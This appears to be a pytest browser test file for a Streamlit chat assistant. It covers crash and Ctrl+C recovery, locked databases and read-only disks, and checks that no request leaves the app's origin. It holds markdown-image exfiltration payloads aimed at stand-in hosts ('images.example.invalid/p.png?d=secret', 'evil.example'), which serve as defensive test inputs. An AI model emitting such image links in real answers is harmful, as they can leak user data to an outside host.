"""Faults a user meets, through a real `streamlit run` and headless Chromium: kill -9 and
Ctrl+C mid-answer, a program holding the database's write lock, and a session that must not
make the browser request anything outside the app's own origin."""

from __future__ import annotations

import re
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import seed
from browser_support import TIMEOUT_MS, StreamlitServer, answers, remote_env, send
from conftest import wait_until
from fake_openai import FakeOpenAIServer, Scenario
from lock_holder import HeldLock
from playwright.sync_api import Page, expect

from assistant.db import Database
from assistant.store import FinalResult, Snapshot, Store

pytestmark = pytest.mark.browser
GENERIC_ERROR = "This app has encountered an error"


@pytest.fixture
def server() -> Iterator[FakeOpenAIServer]:
    fake = FakeOpenAIServer().start()
    yield fake
    fake.stop()


def start_app(
    server: FakeOpenAIServer, folder: Path, logs: Path | None = None, **extra: str
) -> StreamlitServer:
    env = {**remote_env(server, folder / "app.db"), **extra}
    return StreamlitServer(env, (logs or folder) / f"streamlit-{time.monotonic_ns()}.log")


def remount(folder: Path, mode: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["mount", "-o", f"remount,{mode}", str(folder)], capture_output=True, check=False
    )


def the_answer(db_path: Path):
    store = Store(Database(db_path))
    conversation = store.list_conversations()[0]
    return [m for m in store.messages(conversation.id) if m.role == "assistant"][-1]


def test_kill_9_mid_answer_then_restart_shows_the_kept_text_at_once_and_retry_works(
    server, page: Page, tmp_path
):
    held = Scenario(chunks=["Words ", "before ", "the crash", " and after"], hold_after=3)
    server.enqueue(held)
    app = start_app(server, tmp_path)
    try:
        page.goto(app.url)
        send(page, "Survive a crash")
        expect(answers(page).nth(1)).to_contain_text("Words before the crash")
        wait_until(lambda: the_answer(tmp_path / "app.db").content == "Words before the crash")
    finally:
        app.kill()
    held.release.set()
    assert the_answer(tmp_path / "app.db").status == "streaming"  # as the crash left it

    app = start_app(server, tmp_path)
    try:
        page.goto(page.url.replace(urlsplit(page.url).netloc, urlsplit(app.url).netloc))
        bubble = answers(page).nth(1)
        expect(bubble).to_contain_text("Words before the crash")
        expect(bubble).to_contain_text("the text so far was kept")
        expect(page.get_by_text("Waiting for")).to_have_count(0)  # not live for 30 s
        expect(bubble.get_by_role("button", name="Stop")).to_have_count(0)
        assert the_answer(tmp_path / "app.db").status == "interrupted"
        bubble.get_by_role("button", name="Retry").click()
        expect(answers(page).nth(1)).to_contain_text("Hello from the fake.")
        assert the_answer(tmp_path / "app.db").status == "complete"
        expect(page.get_by_text(GENERIC_ERROR)).to_have_count(0)
    finally:
        app.stop()


def test_ctrl_c_mid_answer_exits_at_once_and_keeps_the_text_as_interrupted(
    server, page: Page, tmp_path
):
    held = Scenario(chunks=["A long ", "answer ", "cut short"], hold_after=2)
    server.enqueue(held)
    app = start_app(server, tmp_path)
    try:
        page.goto(app.url)
        send(page, "Write a lot")
        expect(answers(page).nth(1)).to_contain_text("A long answer")
        app.interrupt()
        # Before: the server waited for the answer to end (here: forever, the stream is held).
        app.process.wait(timeout=15)
    finally:
        held.release.set()
        app.stop()
    answer = the_answer(tmp_path / "app.db")
    assert (answer.status, answer.content) == ("interrupted", "A long answer ")


def test_a_locked_database_gets_one_sentence_and_the_typed_text_back(server, page: Page, tmp_path):
    app = start_app(server, tmp_path, ASSISTANT_DB_BUSY_TIMEOUT="0.3")
    try:
        page.goto(app.url)
        send(page, "First message")
        expect(answers(page).nth(1)).to_contain_text("Hello from the fake.")
        with HeldLock(tmp_path / "app.db") as lock:
            send(page, "Typed while the database is locked")
            expect(page.get_by_test_id("stAlert").first).to_contain_text("busy")
            box = page.get_by_placeholder("Message the assistant")
            expect(box).to_have_value("Typed while the database is locked")
            expect(page.get_by_text(GENERIC_ERROR)).to_have_count(0)
            lock.release()
            expect(box).to_be_enabled()
            box.press("Enter")
            expect(answers(page).nth(3)).to_contain_text("Hello from the fake.")
            expect(answers(page).nth(2)).to_contain_text("Typed while the database is locked")
    finally:
        app.stop()


HOSTILE_IMAGE = "![pixel](http://images.example.invalid/p.png?d=secret)"


def test_a_session_on_every_page_requests_nothing_outside_the_app(server, browser, tmp_path):
    server.enqueue(Scenario(chunks=["Look: ", HOSTILE_IMAGE, " done."]))
    app = start_app(server, tmp_path)
    context = browser.new_context()
    outside: list[str] = []
    origin = urlsplit(app.url).netloc

    def audit(route) -> None:
        if urlsplit(route.request.url).netloc != origin:
            outside.append(route.request.url)
            route.abort()  # recorded, never sent
        else:
            route.continue_()

    context.route("**/*", audit)
    try:
        page = context.new_page()
        page.goto(app.url)
        send(page, f"A title with an image {HOSTILE_IMAGE}")
        expect(answers(page).nth(1)).to_contain_text("done.")
        bubble = answers(page).nth(1)
        expect(bubble.get_by_role("link", name="image: pixel")).to_have_count(1)
        expect(page.locator("img[src*='example.invalid']")).to_have_count(0)
        page.get_by_placeholder("Search conversations").fill("title")
        page.get_by_placeholder("Search conversations").press("Enter")
        nav = page.get_by_test_id("stSidebarNav")
        nav.get_by_role("link", name="Conversations").click()
        expect(page.get_by_role("heading", name="Conversations")).to_be_visible()
        nav.get_by_role("link", name="Settings").click()
        expect(page.get_by_role("tab", name="Endpoints")).to_be_visible()
        page.get_by_role("tab", name="Endpoints").click()
        nav.get_by_role("link", name="Chat").click()
        expect(page.get_by_text("What can I help with?")).to_be_visible()
        page.reload()
        expect(page.get_by_text("What can I help with?")).to_be_visible()
    finally:
        context.close()
        app.stop()
    assert outside == []


def outside_requests(context, app_url: str) -> list[str]:
    """Route every request of the context: one to another origin is recorded and never sent."""
    outside: list[str] = []
    origin = urlsplit(app_url).netloc

    def audit(route) -> None:
        if urlsplit(route.request.url).netloc != origin:
            outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", audit)
    return outside


def open_every_expander_and_select(page: Page, where) -> None:
    """Open each expander (its label and its contents drawn) and each select's options."""
    expanders = where.get_by_test_id("stExpander")
    for index in range(expanders.count()):
        expanders.nth(index).locator("summary").first.click()
    selects = where.get_by_test_id("stSelectbox").or_(where.get_by_test_id("stMultiSelect"))
    for index in range(selects.count()):
        select = selects.nth(index)
        if not select.is_visible():
            continue
        select.click()
        page.keyboard.press("ArrowDown")  # a select that takes typed names opens on a key
        expect(page.get_by_role("option").first).to_be_visible(timeout=TIMEOUT_MS)
        page.keyboard.press("Escape")
        expect(page.get_by_role("listbox")).to_have_count(0, timeout=TIMEOUT_MS)


def test_hostile_names_on_every_page_make_the_browser_request_nothing_outside(
    server, browser, tmp_path
):
    """A preset named `![n](http://evil.example/n2.png)` made Settings load that image."""
    server.models = [*seed.hostile("model"), "fake-model"]
    ids = seed.hostile_names(Store(Database(tmp_path / "app.db")), server.base_url)
    app = start_app(server, tmp_path)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    outside = outside_requests(context, app.url)
    image = "img[src*='evil.example'], img[src='x']"
    try:
        page = context.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(f"{app.url}/settings")
        # The last tab's last button: the whole page is drawn before anything is counted.
        expect(page.get_by_text("Save window", exact=True)).to_have_count(1, timeout=TIMEOUT_MS)
        for tab in ("Presets", "Endpoints", "New chats", "Tools", "Prices & context"):
            page.get_by_role("tab", name=tab).click()
            panel = page.get_by_role("tabpanel", name=tab)
            open_every_expander_and_select(page, panel)
            if tab in ("Presets", "Endpoints"):  # the names are drawn, as text
                expect(panel.get_by_text(seed.HOSTILE[0]).first).to_be_visible(timeout=TIMEOUT_MS)
                expect(panel.get_by_text("**bold**").first).to_be_visible(timeout=TIMEOUT_MS)
            expect(page.locator(image)).to_have_count(0, timeout=TIMEOUT_MS)
        page.goto(f"{app.url}/?c={ids[seed.hostile('chat')[0]]}")  # the image-named model
        sidebar = page.get_by_test_id("stSidebar")
        expect(sidebar.get_by_text("Model and prompt for this chat")).to_be_visible(
            timeout=TIMEOUT_MS
        )
        open_every_expander_and_select(page, sidebar)
        expect(page.locator(image)).to_have_count(0, timeout=TIMEOUT_MS)
        page.goto(f"{app.url}/conversations?q=chat")
        expect(page.get_by_text(seed.hostile("chat")[0]).first).to_be_visible(timeout=TIMEOUT_MS)
        page.goto(f"{app.url}/usage")
        expect(page.get_by_role("button", name=seed.hostile("chat")[0]).first).to_be_visible(
            timeout=TIMEOUT_MS
        )
        open_every_expander_and_select(page, page.get_by_test_id("stMain"))
        expect(page.locator(image)).to_have_count(0, timeout=TIMEOUT_MS)
    finally:
        context.close()
        app.stop()
    assert outside == []


def test_the_conversations_panel_follows_the_conversation_through_pin_and_resort(
    server, page: Page, tmp_path
):
    store = Store(Database(tmp_path / "app.db"))
    for title in ("Oldest chat", "Middle chat", "Newest chat"):
        seed.finished_turn(
            store, None, title, FinalResult("complete", "ok"), Snapshot("openai", "m")
        )
    app = start_app(server, tmp_path)
    try:
        page.goto(f"{app.url}/conversations")
        grid = page.get_by_test_id("stDataFrame")
        expect(grid).to_be_visible()
        # Row 2 (newest first) is "Middle chat": tick it.
        box = grid.bounding_box()
        assert box is not None
        page.mouse.click(box["x"] + 14, box["y"] + 35 + 35 + 17)  # header, row 1, row 2
        title = page.get_by_role("textbox", name="Title", exact=True)
        expect(title).to_have_value("Middle chat")
        page.get_by_role("button", name="Pin", exact=True).click()
        expect(page.get_by_text("Pinned “Middle chat”.")).to_be_visible()
        # It moved to the top; the panel (title, Delete, downloads) still acts on it.
        expect(title).to_have_value("Middle chat")
        page.get_by_role("button", name="Delete", exact=True).click()
        expect(page.get_by_text("Move Middle chat to the trash?")).to_be_visible()
        page.get_by_role("button", name="Move to trash").click()
        expect(page.get_by_text("Moved “Middle chat” to the trash.")).to_be_visible()
    finally:
        app.stop()
    titles = {c.title for c in store.list_trash()}
    assert titles == {"Middle chat"}


def test_a_refused_long_message_survives_any_number_of_enters(server, page: Page, tmp_path):
    app = start_app(server, tmp_path, ASSISTANT_MAX_INPUT_CHARS="1000")
    try:
        page.goto(app.url)
        box = page.get_by_placeholder("Message the assistant")
        long_text = "word " * 300  # 1,500 characters
        box.fill(long_text)
        for _ in range(3):
            box.press("Enter")
            expect(page.get_by_text("the limit is 1,000").last).to_be_visible()
            expect(box).to_have_value(re.compile(r"^(word ){299}word ?$"))
            expect(box).to_be_enabled()
        assert server.completions() == []  # nothing was sent
    finally:
        app.stop()


def test_a_long_streaming_answer_stays_in_view_and_ends_with_its_controls_visible(
    server, page: Page, tmp_path
):
    """Streamlit's main container sticks to the bottom; this guards it, also after a reload
    in the middle of the answer."""
    server.enqueue(Scenario(chunks=[f"Short {number}.\n\n" for number in range(30)]))
    lines = [f"Line {number} of a long answer.\n\n" for number in range(80)]
    server.enqueue(Scenario(chunks=lines, chunk_delay=0.04))
    app = start_app(server, tmp_path)
    try:
        page.goto(app.url)
        send(page, "First")
        expect(page.get_by_role("button", name="Regenerate")).to_be_in_viewport()
        send(page, "Write a lot")
        expect(page.get_by_text("Line 10 of a long answer.")).to_be_in_viewport()
        page.reload()
        expect(page.get_by_text("Line 40 of a long answer.")).to_be_in_viewport()
        expect(page.get_by_role("button", name="Regenerate")).to_be_in_viewport()
        expect(page.get_by_text("Line 79 of a long answer.")).to_be_in_viewport()
    finally:
        app.stop()


def test_a_sidebar_search_hit_opens_from_anywhere_on_it(server, page: Page, tmp_path):
    store = Store(Database(tmp_path / "app.db"))
    ids = seed.finished_turn(
        store,
        None,
        "Trip planning",
        FinalResult("complete", "Visit Zanzibar for spices and beaches."),
        Snapshot("openai", "m"),
    )
    app = start_app(server, tmp_path)
    try:
        page.goto(app.url)
        box = page.get_by_placeholder("Search conversations")
        box.fill("zanzibar")
        box.press("Enter")
        snippet = page.get_by_test_id("stSidebar").get_by_text("for spices")
        expect(snippet).to_be_visible()
        area = snippet.bounding_box()
        assert area is not None
        page.mouse.click(area["x"] + area["width"] / 2, area["y"] + area["height"] / 2)
        expect(page).to_have_url(re.compile(rf"\?c=1&m={ids.assistant_message_id}$"))
    finally:
        app.stop()


def test_a_lock_held_mid_answer_is_said_on_the_page_and_the_answer_completes_whole(
    server, page: Page, tmp_path
):
    held = Scenario(chunks=["Every ", "word ", "arrives ", "whole."], hold_after=2)
    server.enqueue(held)
    app = start_app(server, tmp_path, ASSISTANT_DB_BUSY_TIMEOUT="0.2")
    try:
        page.goto(app.url)
        send(page, "Keep my words")
        expect(answers(page).nth(1)).to_contain_text("Every word")
        with HeldLock(tmp_path / "app.db") as lock:
            held.release.set()
            expect(answers(page).nth(1)).to_contain_text("Every word arrives whole.")
            expect(page.get_by_text("saved as soon as the database can be written")).to_be_visible()
            lock.release()
            expect(page.get_by_text("saved as soon as the database")).to_have_count(0)
            expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
            expect(page.get_by_text(GENERIC_ERROR)).to_have_count(0)
    finally:
        app.stop()
    answer = the_answer(tmp_path / "app.db")
    assert (answer.status, answer.content) == ("complete", "Every word arrives whole.")


def test_words_keep_streaming_on_the_page_while_another_program_holds_the_write_lock(
    server, page: Page, tmp_path
):
    """With the default busy timeout (5 s). Before: each checkpoint, written by the worker
    itself, waited out the timeout, and the words on screen froze for as long (~14 s of a
    15 s lock). Now the words keep coming from memory and the page says the lock is there."""
    words = [f"Word{number} " for number in range(120)]
    held = Scenario(chunks=words, chunk_delay=0.05, hold_after=3)
    server.enqueue(held)
    app = start_app(server, tmp_path)
    try:
        page.goto(app.url)
        send(page, "Count for me")
        bubble = answers(page).nth(1)
        expect(bubble).to_contain_text("Word0 Word1 Word2")
        wait_until(lambda: the_answer(tmp_path / "app.db").content == "".join(words[:3]))
        with HeldLock(tmp_path / "app.db") as lock:
            held.release.set()
            # 60 more words take 3 s to stream; before, one got through per 5 s.
            expect(bubble).to_contain_text("Word63", timeout=15_000)
            expect(page.get_by_text("saved as soon as the database can be written")).to_be_visible()
            lock.release()
            expect(bubble).to_contain_text("Word119")
            expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
            expect(page.get_by_text("saved as soon as the database")).to_have_count(0)
            expect(page.get_by_text(GENERIC_ERROR)).to_have_count(0)
    finally:
        app.stop()
    answer = the_answer(tmp_path / "app.db")
    assert (answer.status, answer.content) == ("complete", "".join(words))


def test_the_first_visit_after_a_start_may_land_on_a_sub_page(server, page: Page, tmp_path):
    app = start_app(server, tmp_path)  # a fresh server: this is its first session
    try:
        page.goto(f"{app.url}/settings")
        expect(page.get_by_role("tab", name="Endpoints")).to_be_visible()
        nav = page.get_by_test_id("stSidebarNav")
        expect(nav.get_by_role("link", name="Conversations")).to_be_visible()
        expect(nav.get_by_role("link", name="app")).to_have_count(0)  # not the folder listing
        nav.get_by_role("link", name="Conversations").click()
        expect(page.get_by_role("heading", name="Conversations")).to_be_visible()
        width = page.get_by_test_id("stMainBlockContainer").bounding_box()
        assert width is not None and width["width"] > 800  # wide (centered is 736 px here)
    finally:
        app.stop()


def test_a_read_only_disk_gives_one_sentence_on_reload_and_on_send(
    server, page: Page, small_disk, tmp_path
):
    app = start_app(server, small_disk, logs=tmp_path)  # its log must not keep the disk busy
    try:
        page.goto(app.url)
        send(page, "Before the disk went read-only")
        expect(answers(page).nth(1)).to_contain_text("Hello from the fake.")
        # The file system can be made read-only once no file on it is open for writing.
        wait_until(lambda: remount(small_disk, "ro").returncode == 0, timeout=15, interval=0.2)
        send(page, "Typed on a read-only disk")
        expect(page.get_by_test_id("stAlert").first).to_contain_text("cannot be opened for writing")
        box = page.get_by_placeholder("Message the assistant")
        expect(box).to_have_value("Typed on a read-only disk")
        # A reload cannot even read a WAL database on a read-only disk: one sentence, the
        # input still there, not Streamlit's error page.
        page.reload()
        expect(page.get_by_test_id("stAlert").first).to_contain_text("cannot be opened for writing")
        expect(page.get_by_text("Nothing you typed was lost")).to_be_visible()
        expect(box).to_be_visible()
        page.get_by_test_id("stSidebarNav").get_by_role("link", name="Conversations").click()
        # The chat page's alert is still on screen until the switch lands: wait for the address.
        expect(page).to_have_url(re.compile(r"/conversations"))
        expect(page.get_by_test_id("stAlert").first).to_contain_text("cannot be opened for writing")
        expect(page.get_by_text(GENERIC_ERROR)).to_have_count(0)
        assert remount(small_disk, "rw").returncode == 0
        page.reload()
        expect(page.get_by_role("heading", name="Conversations")).to_be_visible()
        expect(page.get_by_test_id("stAlert")).to_have_count(0)
    finally:
        remount(small_disk, "rw")
        app.stop()
